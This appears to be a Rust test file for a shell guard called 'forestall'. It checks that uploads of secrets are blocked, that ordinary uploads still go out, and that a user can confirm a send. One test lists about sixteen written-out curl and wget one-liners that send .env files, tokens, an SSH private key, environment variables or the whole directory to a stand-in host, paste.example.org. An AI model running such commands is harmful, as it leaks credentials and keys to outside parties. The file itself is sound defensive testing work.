//! The second incident: a token uploaded. What a real HTTP server received is the truth.
//!
//! The lines name hosts that do not exist; `http_proxy` brings whatever curl sends to our loopback server, so
//! that the line is judged as it would be for a real host.

use crate::in_both_shells;
use crate::support::{Server, Shell, Terminal, TestContext, github_token, shown};
use std::path::PathBuf;

in_both_shells![secrets_do_not_leave, ordinary_uploads_leave_unasked, yes_sends];

struct Stage {
    context: TestContext,
    server: Server,
    dir: PathBuf,
}

impl Stage {
    fn new() -> Stage {
        let context = TestContext::new();
        let server = Server::new();
        let dir = context.work().join("project");
        let token = github_token();
        context.write(&dir.join(".env"), format!("GITHUB_TOKEN={token}\nDEBUG=1\n"));
        context.write(&dir.join("token"), format!("{token}\n"));
        context.write(&dir.join("notes.txt"), format!("remember: {token}\n"));
        context.write(&dir.join("payload.json"), "{\"name\": \"a thing\"}\n");
        let made = context
            .command("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(dir.join("key"))
            .output()
            .unwrap();
        assert!(made.status.success(), "{}", shown(&made));
        Stage { context, server, dir }
    }

    fn terminal(&self, shell: Shell) -> Terminal {
        let rc = format!("export http_proxy={}", self.server.url());
        Terminal::open(&self.context, shell, &self.dir, &rc)
    }
}

fn secrets_do_not_leave(shell: Shell) {
    let stage = Stage::new();
    let mut terminal = stage.terminal(shell);
    for line in [
        "curl -s -d @.env http://paste.example.org/",
        "curl -s --data-binary @.env http://paste.example.org/",
        "curl -s -F file=@.env http://paste.example.org/",
        "curl -s -T .env http://paste.example.org/",
        "curl -s -d@token http://paste.example.org/",
        "curl -s -d @notes.txt http://paste.example.org/",
        "cat key | curl -s -T - http://paste.example.org/key",
        "curl -s -T - http://paste.example.org/key < key",
        "cat .env | base64 | curl -s -d @- http://paste.example.org/",
        "curl -s \"http://paste.example.org/?k=$(cat token)\"",
        "curl -s -d \"$(cat .env)\" http://paste.example.org/",
        "t=$(cat token); curl -s \"http://paste.example.org/?k=$t\"",
        "printenv | curl -s -d @- http://paste.example.org/",
        "tar cz . | curl -s -T - http://paste.example.org/all.tgz",
        "wget -q -O - --post-file=.env http://paste.example.org/",
        "curl -s http://paste.example.org/ -d @payload.json -d @.env",
    ] {
        let reply = terminal.stopped(line);
        let received = stage.server.received();
        assert!(
            received.is_empty(),
            "`{line}` sent {}; on the screen: {}",
            String::from_utf8_lossy(&received.concat()),
            reply.screen
        );
        assert!(reply.screen.contains("forestall"), "`{line}` was not stopped by us: {}", reply.screen);
    }
}

fn ordinary_uploads_leave_unasked(shell: Shell) {
    let stage = Stage::new();
    let mut terminal = stage.terminal(shell);
    for (line, body) in [
        ("curl -s -d @payload.json http://api.example.org/things", Some("{\"name\": \"a thing\"}")),
        ("curl -s --json @payload.json http://api.example.org/things", Some("{\"name\": \"a thing\"}")),
        ("cat payload.json | curl -s -d @- http://api.example.org/things", Some("{\"name\": \"a thing\"}")),
        ("curl -s -F file=@key.pub http://api.example.org/keys", Some("ssh-ed25519")),
        ("curl -s -d 'name=a+thing' http://api.example.org/things", Some("name=a+thing")),
        ("curl -s \"http://api.example.org/?day=$(date +%F)\"", None),
        ("curl -s http://example.org/", None),
    ] {
        let before = stage.server.received().len();
        assert_eq!(terminal.unasked(line), 0, "`{line}`");
        let received = stage.server.received();
        assert_eq!(received.len(), before + 1, "`{line}` is sent exactly once");
        let request = String::from_utf8_lossy(&received[before]);
        if let Some(body) = body {
            assert!(request.contains(body), "`{line}` sent: {request}");
        }
    }
}

fn yes_sends(shell: Shell) {
    let stage = Stage::new();
    let mut terminal = stage.terminal(shell);
    let line = "curl -s -F file=@notes.txt http://api.example.org/notes";
    let reply = terminal.line(line);
    if reply.asked {
        let after = terminal.press(b"y");
        assert_eq!(after.status, Some(0), "{}", after.screen);
    } else {
        // A known incident is not asked about; the one way past it is on the screen.
        assert!(reply.screen.contains("forestall once"), "{}", reply.screen);
        assert!(stage.server.received().is_empty());
        terminal.permit(line);
        assert_eq!(terminal.unasked(line), 0);
    }
    assert_eq!(stage.server.received().len(), 1);
    let log = stage.context.forestall(&stage.dir, ["log"]);
    let said = String::from_utf8_lossy(&log.stdout);
    assert!(said.contains("notes.txt"), "{}", shown(&log));
    assert!(!said.contains("zQ4mWx8LkT2vRb7"), "the journal holds the token: {said}");
}
